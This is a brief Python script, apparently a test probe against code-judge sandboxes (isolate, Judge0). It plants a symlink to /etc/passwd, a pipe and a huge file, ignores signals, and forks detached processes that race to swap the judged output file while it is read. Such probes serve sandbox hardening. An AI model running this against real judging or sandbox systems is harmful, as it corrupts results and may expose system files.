# OWN-16 isolate and Judge0: the answer is replaced while it is being read: a process that is left behind swaps a number, a link, a pipe and a folder under its name.
import os, signal, sys
print("OWN-16 HELD racing", flush=True)
open("good", "w").write("7"); os.symlink("/etc/passwd", "link"); os.mkfifo("pipe"); open("huge", "w").truncate(1 << 40)
for s in range(1, 32):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        while True:
            for n in ("good", "link", "pipe", "huge"):
                try: os.link(n, "next-%d" % os.getpid(), follow_symlinks=False); os.rename("next-%d" % os.getpid(), "output.json")
                except OSError:
                    try: os.unlink("next-%d" % os.getpid())
                    except OSError: pass
while not os.path.lexists("output.json"): pass
os._exit(0)
